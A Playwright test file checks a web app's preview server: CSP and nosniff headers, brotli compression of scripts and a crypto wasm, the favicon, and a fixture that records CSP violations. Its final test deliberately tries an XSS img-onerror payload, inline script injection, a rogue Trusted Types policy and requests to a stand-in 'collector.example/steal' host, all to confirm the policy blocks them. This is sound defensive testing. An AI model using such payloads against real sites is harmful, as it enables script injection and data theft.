// How the preview server serves the built app (vite-plugin-serving.ts): the Content-Security-Policy on
// every response, brotli where the browser takes it, the favicon; and proof that the violation fixture
// (./fixtures.ts) catches what the policy blocks.
import { readdirSync, statSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import type { APIRequestContext } from '@playwright/test';
import { loadEnv } from 'vite';
import { contentSecurityPolicy } from '../src/config/content-security-policy';
import { readEnv } from '../src/config/read-env';
import { expect, test } from './fixtures';

// The policy the build was made with: the same VITE_* configuration, read the way vite.config.ts reads it.
const POLICY = contentSecurityPolicy(readEnv(loadEnv('production', fileURLToPath(new URL('..', import.meta.url)), 'VITE_')));

async function entryScript(request: APIRequestContext): Promise<string> {
  const html = await (await request.get('/')).text();
  const src = /<script type="module" crossorigin src="([^"]+)"/.exec(html)?.[1];
  expect(src, 'the entry script of index.html').toBeTruthy();
  return src!;
}

test('every response carries the Content-Security-Policy and nosniff', async ({ request }) => {
  const script = await entryScript(request);
  for (const path of ['/', '/home', '/forgotusername', script, '/favicon.svg', '/no-such-file.png']) {
    const response = await request.get(path);
    expect(response.headers()['content-security-policy'], path).toBe(POLICY);
    expect(response.headers()['x-content-type-options'], path).toBe('nosniff');
  }
});

test('the initial JavaScript comes as brotli when the browser accepts it, gzip otherwise, same bytes', async ({ request }) => {
  const script = await entryScript(request);
  const brotli = await request.fetch(script, { headers: { 'Accept-Encoding': 'gzip, deflate, br' } });
  expect(brotli.headers()['content-encoding']).toBe('br');
  expect(brotli.headers()['content-type']).toBe('text/javascript; charset=utf-8');
  expect(brotli.headers()['vary']).toBe('Accept-Encoding');
  const gzip = await request.fetch(script, { headers: { 'Accept-Encoding': 'gzip, br;q=0' } });
  expect(gzip.headers()['content-encoding']).toBe('gzip');
  // Playwright decodes both bodies: the same script; Content-Length is the brotli copy's own size.
  expect((await brotli.body()).equals(await gzip.body())).toBe(true);
  expect(Number(brotli.headers()['content-length'])).toBeLessThan((await gzip.body()).byteLength);
});

test("the messenger's crypto wasm comes as brotli, as application/wasm (7.8 MB raw)", async ({ request }) => {
  const assets = fileURLToPath(new URL('../dist/assets', import.meta.url));
  const wasm = readdirSync(assets).find((name) => /^matrix_sdk_crypto_wasm_bg-.*\.wasm$/.test(name));
  expect(wasm, 'the crypto wasm in the build').toBeTruthy();
  const raw = statSync(`${assets}/${wasm}`).size;
  const response = await request.fetch(`/assets/${wasm}`, { headers: { 'Accept-Encoding': 'gzip, deflate, br' } });
  expect(response.headers()['content-encoding']).toBe('br');
  expect(response.headers()['content-type']).toBe('application/wasm');
  // On the wire at most a third of it (about 1.7 MB of 7.8 MB; 39 s less on the lab profile's 1.6 Mbps).
  expect(Number(response.headers()['content-length'])).toBeLessThan(raw / 3);
  expect((await response.body()).byteLength).toBe(raw);
});

test('the favicon is served and linked', async ({ page, request }) => {
  const icon = await request.get('/favicon.svg');
  expect(icon.status()).toBe(200);
  expect(icon.headers()['content-type']).toMatch(/^image\/svg\+xml/);
  await page.goto('/forgotusername');
  await expect(page.locator('link[rel="icon"]')).toHaveAttribute('href', '/favicon.svg');
});

test('the fixture reports what the policy blocks: string HTML sinks, inline script, foreign connections, other policies', async ({
  page,
  cspViolations,
}) => {
  await page.goto('/forgotusername');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  const thrown = await page.evaluate(() => {
    const attempts: Array<() => unknown> = [
      () => (document.createElement('div').innerHTML = '<img src="x" onerror="alert(1)">'),
      () => {
        const script = document.createElement('script');
        script.textContent = 'window.injected = true';
        document.body.append(script);
      },
      () => {
        const factory = (window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }).trustedTypes;
        factory.createPolicy('attacker', { createHTML: (html: string) => html });
      },
    ];
    return attempts.map((attempt) => {
      try {
        attempt();
        return 'allowed';
      } catch (error) {
        return (error as Error).name;
      }
    });
  });
  expect(thrown).toEqual(['TypeError', 'TypeError', 'TypeError']);
  await page.evaluate(() => {
    void fetch('https://collector.example/steal').catch(() => undefined);
    new Image().src = 'https://collector.example/pixel.png';
  });
  await expect
    .poll(() => cspViolations.map((violation) => violation.directive).sort())
    .toEqual(['connect-src', 'img-src', 'require-trusted-types-for', 'require-trusted-types-for', 'trusted-types']);
  expect(await page.evaluate(() => 'injected' in window)).toBe(false);
  // Seen and asserted: the fixture's own end-of-test check must not fail this test.
  cspViolations.length = 0;
});
